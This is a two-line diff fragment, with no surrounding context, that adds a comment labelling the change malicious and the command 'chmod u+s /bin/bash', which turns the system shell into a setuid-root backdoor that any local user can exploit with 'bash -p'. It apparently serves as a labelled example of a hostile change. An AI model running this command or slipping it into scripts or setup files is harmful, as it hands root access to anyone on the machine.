@@ -1,0 +1,2 @@
+# Malicious: chmod u+s /bin/bash makes bash setuid root; `bash -p` then gives anyone root.
+chmod u+s /bin/bash
